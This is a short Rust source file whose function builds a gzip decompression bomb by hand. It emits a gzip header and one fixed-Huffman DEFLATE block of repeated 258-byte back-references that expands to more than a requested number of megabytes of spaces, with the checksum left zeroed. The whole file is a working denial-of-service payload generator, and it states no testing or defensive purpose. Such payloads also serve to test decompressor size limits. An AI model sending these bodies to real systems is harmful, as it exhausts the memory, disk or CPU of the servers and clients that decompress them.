//! A gzip bomb, made by hand: one byte, and then copies of it, 258 in 13 bits.

/// A compressed body (RFC 1951, 1952) of more than `megabytes` once it is decompressed, as spaces.
pub fn bomb(megabytes: usize) -> Vec<u8> {
    const COPY: usize = 258;
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], filled: 0 };
    // The last block, with the fixed codes.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // A space: literals below 144 are 8 bits from 0x30 on.
    bits.push_code(0x30 + 0x20, 8);
    for _ in 0..=megabytes * (1 << 20) / COPY {
        // Length 258 is symbol 285 without extra bits, of those that are 8 bits from 0xc0 on; distance 1 is symbol 0 of 5 bits.
        bits.push_code(0xc0 + 285 - 280, 8);
        bits.push_code(0, 5);
    }
    // The end of the block. Nobody reads as far as the checksum.
    bits.push_code(0, 7);
    bits.bytes.extend_from_slice(&[0; 8]);
    bits.bytes
}

/// Bits, the first of a byte being the least.
struct Bits {
    bytes: Vec<u8>,
    /// How many bits of the last byte are in use; 0 when the next begins a byte.
    filled: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.filled == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> bit & 1 == 1) << self.filled;
            }
            self.filled = (self.filled + 1) % 8;
        }
    }

    /// A code of Huffman's, whose first bit is the greatest.
    fn push_code(&mut self, code: u32, count: u32) {
        for bit in (0..count).rev() {
            self.push(code >> bit & 1, 1);
        }
    }
}
